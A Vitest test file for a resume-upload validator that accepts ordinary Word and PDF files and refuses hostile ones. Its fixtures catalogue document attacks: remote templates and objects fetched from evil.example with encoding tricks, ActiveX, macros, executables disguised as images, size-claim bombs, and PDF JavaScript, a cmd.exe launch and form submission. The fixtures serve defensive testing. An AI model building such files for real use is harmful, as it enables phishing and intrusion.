import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { docxFile, pdfFile, wordTypes, type ZipPart, zipFile } from '../../../tests/support/resume-files.ts';
import { resumeKindOf } from './resume-file.rules.ts';

const relsOf = (...elements: string[]) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${elements.join('')}</Relationships>`;
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const rel = (type: string, target: string, mode = ' TargetMode="External"') => `<Relationship Id="r1" Type="${office}/${type}" Target="${target}"${mode}/>`;
const settings = (element: string): ZipPart => ({ name: 'word/_rels/settings.xml.rels', text: relsOf(element) });
const document = (element: string): ZipPart => ({ name: 'word/_rels/document.xml.rels', text: relsOf(rel('styles', 'styles.xml', ''), element) });

/** A PDF with these objects, as they stand or in a compressed stream of objects. */
function pdf(objects: string, { packed = false } = {}): Uint8Array {
  const stream = deflateSync(Buffer.from(objects, 'latin1'));
  const body = packed
    ? Buffer.concat([
        Buffer.from(`4 0 obj<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length ${stream.length}>>stream\r\n`),
        stream,
        Buffer.from('\r\nendstream\nendobj\n'),
      ])
    : Buffer.from(objects, 'latin1');
  const file = Buffer.from(pdfFile());
  const at = file.indexOf('1 0 obj');
  return Buffer.concat([file.subarray(0, at), body, file.subarray(at)]);
}

const ordinaryDocx: Record<string, ZipPart[]> = {
  'of Word, with web and mail links': [document(rel('hyperlink', 'https://ana.example/?a=1&amp;b=2') + rel('hyperlink', 'mailto:ana@example.org'))],
  'of Word, made from a template on its writer’s disk': [
    settings(rel('attachedTemplate', 'file:///C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Templates\\Resume.dotx')),
  ],
  'of Word, with a chart and its numbers': [
    { name: 'word/embeddings/Microsoft_Excel_Sheet1.xlsx', text: Buffer.from(zipFile([{ name: 'a.xml', text: 'x' }])).toString('latin1') },
    { name: 'word/charts/_rels/chart1.xml.rels', text: relsOf(rel('package', '../embeddings/Microsoft_Excel_Sheet1.xlsx', '')) },
  ],
  'of LibreOffice': [{ name: 'docProps/app.xml', text: '<Application>LibreOffice/24.2$Linux</Application>' }, document(rel('fontTable', 'fontTable.xml', ''))],
  'of Google Docs, with a picture': [{ name: 'word/media/image1.png', text: '\u0089PNG' }, document(rel('image', 'media/image1.png', ''))],
};
const hostileDocx: Record<string, ZipPart[]> = {
  'a template from the web': [settings(rel('attachedTemplate', 'https://evil.example/t.dotm'))],
  'a template from a share': [settings(rel('attachedTemplate', 'file://evil.example/share/t.dotm'))],
  'a template from a share, written as a path': [settings(rel('attachedTemplate', '\\\\evil.example\\t.dotm'))],
  'a template whose address is written in entities': [settings(rel('attachedTemplate', '&#104;ttps://evil.example/t.dotm'))],
  'a template in single quotes': [settings(rel('attachedTemplate', 'https://evil.example/t').replaceAll('"', "'"))],
  'a picture from the web': [document(rel('image', 'http://evil.example/pixel.png'))],
  'an object from the web': [document(rel('oleObject', 'mhtml:https://evil.example/a!x-usc:https://evil.example/b'))],
  'relationships of another part': [{ name: 'word/_rels/footer9.xml.RELS', text: relsOf(rel('frame', 'http://evil.example/')) }],
  'an embedded object': [{ name: 'word/embeddings/oleObject1.bin', text: 'x' }],
  'a program': [{ name: 'word/media/setup.exe', text: 'x' }],
  'a program under another name': [{ name: 'word/media/image1.png', text: 'MZ\u0000\u0003' }],
  ActiveX: [{ name: 'word/activeX/activeX1.xml', text: '<x/>' }],
  'an embedded workbook with macros': [{ name: 'word/embeddings/Sheet.xlsm', text: 'PK' }],
};
const unreadableDocx: Record<string, ZipPart[]> = {
  'relationships in another encoding': [{ name: 'word/_rels/document.xml.rels', text: '<\0R\0e\0l\0' }],
  'relationships with entities of their own': [{ name: 'word/_rels/document.xml.rels', text: '<!DOCTYPE x [<!ENTITY e "External">]><Relationships/>' }],
};

describe('a Word document', () => {
  test.each(Object.keys(ordinaryDocx))('%s is taken', (name) => expect(resumeKindOf(docxFile(ordinaryDocx[name]))).toEqual({ kind: 'DOCX' }));
  test.each(Object.keys(hostileDocx))('with %s is refused', (name) =>
    expect(resumeKindOf(docxFile(hostileDocx[name]))).toEqual({ problem: 'FIELD_FILE_ACTIVE' }),
  );
  test.each(Object.keys(unreadableDocx))('with %s is refused', (name) =>
    expect(resumeKindOf(docxFile(unreadableDocx[name]))).toEqual({ problem: 'FIELD_FILE_BROKEN' }),
  );
  const types = '[Content_Types].xml';
  const long = wordTypes + ' '.repeat(300 * 1_024);
  const tooLarge: Record<string, ZipPart[]> = {
    'whose list of types claims to be larger than such lists are': [{ name: types, text: wordTypes, claims: { unpackedBytes: 300 * 1_024 } }],
    'whose list of types is larger than it claims': [{ name: types, text: long, claims: { unpackedBytes: 1_000 } }],
    'whose list of types is larger than it claims, and not compressed': [{ name: types, text: long, claims: { unpackedBytes: 1_000 }, stored: true }],
    'whose parts claim to be 160 MB together': ['a', 'b'].map((name) => ({
      name: `word/media/${name}.png`,
      text: 'x',
      claims: { unpackedBytes: 80 * 1_024 ** 2 },
    })),
  };
  test.each(Object.keys(tooLarge))('%s is refused', (name) => expect(resumeKindOf(docxFile(tooLarge[name]))).toEqual({ problem: 'FIELD_FILE_BROKEN' }));
  test('whose parts claim to be 140 MB together is taken', () => {
    const parts = ['a', 'b'].map((name) => ({ name: `word/media/${name}.png`, text: 'x', claims: { unpackedBytes: 70 * 1_024 ** 2 } }));
    expect(resumeKindOf(docxFile(parts))).toEqual({ kind: 'DOCX' });
  });
  test.each(['word/vbaProject.bin', 'word/VBAData.xml'])('with macros as %s, which no content type tells of, is refused for them', (name) =>
    expect(resumeKindOf(docxFile([{ name, text: 'x' }]))).toEqual({ problem: 'FIELD_FILE_MACROS' }),
  );
  test('with macros in their own container under any name is refused', () => {
    const container = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    expect(resumeKindOf(docxFile([{ name: 'word/media/image2.png', text: container }]))).toEqual({ problem: 'FIELD_FILE_ACTIVE' });
  });
});

const ordinaryPdf: Record<string, string> = {
  'of LaTeX, which opens at its first page': '5 0 obj<</OpenAction[3 0 R/Fit]/PageMode/UseOutlines>>endobj\n',
  'that opens by going to a page': '5 0 obj<</OpenAction<</S/GoTo/D[3 0 R/Fit]>>>>endobj\n',
  'with web links, as of Canva and Google Docs': '5 0 obj<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://ana.example)>>>>endobj\n',
  'of a developer, whose skills and title say JavaScript': '5 0 obj<</Title(HTML/JavaScript developer, /JS and /Launch)>>endobj\nBT (HTML/JavaScript) Tj ET\n',
  'of Europass, which carries its data as XML':
    '5 0 obj<</Type/Filespec/F(attachment.xml)/EF<</F 6 0 R>>>>endobj\n6 0 obj<</Type/EmbeddedFile/Subtype/text#2Fxml/Length 4>>stream\n<a/>\nendstream endobj\n',
};
const hostilePdf: Record<string, string> = {
  'a script that runs on opening': '5 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n',
  'a script with spaces and comments between': '5 0 obj<</S %x\n /JavaScript /JS(app.alert(1))>>endobj\n',
  'a script whose name is spelled in hex': '5 0 obj<</S/J#61v#61Script/JS(app.alert(1))>>endobj\n',
  'a script whose kind is an object of its own': '5 0 obj<</S 6 0 R/JS(app.alert(1))>>endobj\n6 0 obj/JavaScript endobj\n',
  'a program that it starts': '5 0 obj<</AA<</O<</S/Launch/F(cmd.exe)>>>>>>endobj\n',
  'a form that it sends': '5 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj\n',
  'a file inside': '5 0 obj<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>endobj\n6 0 obj<</Type/EmbeddedFile/Subtype/application#2Foctet-stream>>endobj\n',
  'a file inside, by reference': '5 0 obj<</Type/Filespec/EF 6 0 R>>endobj\n',
  'rich media': '5 0 obj<</Type/Annot/Subtype/RichMedia>>endobj\n',
};

describe('a PDF', () => {
  test.each(Object.keys(ordinaryPdf))('%s is taken, also with its objects compressed', (name) => {
    const objects = ordinaryPdf[name] ?? '';
    expect([resumeKindOf(pdf(objects)), resumeKindOf(pdf(objects, { packed: true }))]).toEqual([{ kind: 'PDF' }, { kind: 'PDF' }]);
  });
  test.each(Object.keys(hostilePdf))('with %s is refused, also with its objects compressed', (name) => {
    const objects = hostilePdf[name] ?? '';
    const refused = { problem: 'FIELD_FILE_ACTIVE' };
    expect([resumeKindOf(pdf(objects)), resumeKindOf(pdf(objects, { packed: true }))]).toEqual([refused, refused]);
  });
  test('whose compressed objects cannot be read is refused', () => {
    expect(resumeKindOf(pdf('4 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\nnot zlib\nendstream endobj\n'))).toEqual({ problem: 'FIELD_FILE_BROKEN' });
    expect(resumeKindOf(pdf('4 0 obj<</Type/ObjStm/Filter/LZWDecode>>stream\nx\nendstream endobj\n'))).toEqual({ problem: 'FIELD_FILE_BROKEN' });
  });
});
